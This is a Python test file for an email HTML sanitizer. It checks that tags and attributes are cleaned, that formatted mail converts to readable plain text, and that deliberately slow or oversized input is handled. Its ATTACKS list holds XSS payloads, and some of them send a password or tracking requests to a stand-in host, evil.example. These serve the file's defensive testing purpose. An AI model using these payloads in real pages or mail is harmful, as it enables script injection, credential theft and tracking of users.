"""Formatted text: what may stay in a mail, and what it reads like as plain text."""

import re
import time
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services import html
from services.work import Invalid

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<p style="background:url(https://evil.example/seen)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="backgr\\6fund: u\\72l(x)">x</p>',
    '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<img src="//evil.example/seen"><img src="http://evil.example/seen"><img src="/api/v1/files">',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_in_secret_stays(attack: str) -> None:
    cleaned = html.clean(f"<p>before</p>{attack}<p>after</p>")
    assert "before" in cleaned and "after" in cleaned
    forbidden = r"<script|<svg|<iframe|<form|<style|<meta|<base|<!--|\son\w+=|script:|data:|evil|/api|expression|url\("
    assert not re.search(forbidden, cleaned, re.I), cleaned


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200), st.sampled_from(ATTACKS))
def test_what_is_clean_stays_as_it_is(text: str, attack: str) -> None:
    once = html.clean(f"<div>{text}{attack}<b>{text}</b></div>")
    assert html.clean(once) == once


def test_links_pictures_and_simple_styles_stay() -> None:
    given_ = '<p style="color:red;position:fixed"><a href="https://acme.example">Acme</a><img src="cid:logo@acme"></p>'
    kept = html.clean(given_)
    assert 'href="https://acme.example"' in kept
    assert 'src="cid:logo@acme"' in kept and 'style="color:red"' in kept


@pytest.mark.parametrize(
    "nothing", ["", "<br>", "<p><br></p>", "<div> &nbsp; </div>", "<!-- x -->", "<script>x</script>"]
)
def test_text_without_anything_to_see_is_empty(nothing: str) -> None:
    assert html.clean(nothing) == html.as_text(nothing) == ""  # quasar#17873


@pytest.mark.parametrize(
    ("formatted", "plain"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("<div>One</div><div><br></div><div>Two</div>", "One\n\nTwo"),
        ("One<br>Two   words\n here", "One\nTwo words here"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "- a\n- b\n  - c"),
        ("<ol start=9><li>a<li>b<br>more</ol>", "9. a\n10. b\n    more"),
        ('See <a href="https://a.example/x">this</a>', "See this (https://a.example/x)"),
        (
            '<a href="https://a.example/">a.example</a>, <a href="mailto:b@a.example">b@a.example</a>',
            "a.example, b@a.example",
        ),
        ("<table><tr><th>Part<th>Price<tr><td>Bolt<td>€ 2</table>", "Part | Price\nBolt | € 2"),
        ("<table><tr><td><p>a</p><p>b</p></td></tr></table>", "a\n\nb"),
        ("<blockquote>You said<br>this</blockquote>No.", "> You said\n> this\n\nNo."),
        ("<pre>if x:\n    y</pre>", "if x:\n    y"),
        ("Fish &amp; chips &lt;3 &copy;", "Fish & chips <3 ©"),
        ('<img src="cid:x" alt="Our shop">', "[Our shop]"),
        ("<h1>Title</h1>text<hr>end", f"Title\n\ntext\n\n{'-' * 40}\n\nend"),
    ],
)
def test_formatted_text_reads_well_as_plain_text(formatted: str, plain: str) -> None:
    assert html.as_text(formatted) == plain


@pytest.mark.parametrize("piece", ["<blockquote>", "<table><tr><td>", "<li>x", "<!--", "<a <a ", "&", "<div>"])
def test_text_made_to_be_slow_is_read_in_time(piece: str) -> None:
    hostile, began = piece * (50_000 // len(piece)), time.process_time()
    with suppress(Invalid):
        html.clean(hostile)
    html.as_text(hostile)
    assert time.process_time() - began < 2


def test_s02_formatting_that_would_take_all_memory_is_refused() -> None:
    with pytest.raises(Invalid):
        html.clean("<p>" + "".join(f"<font color={n}>" for n in range(1_000)) + "<p>x" * 1_000)


def test_a_picture_without_a_description_gets_an_empty_one_and_keeps_its_own() -> None:
    assert html.clean('<img src="cid:x">') == '<img src="cid:x" alt="">'
    assert html.clean('<img alt="Our boat" src="cid:x">') == '<img alt="Our boat" src="cid:x">'
    assert html.clean('<img title=\' alt="x"\' src="cid:x">').endswith(' alt="">')
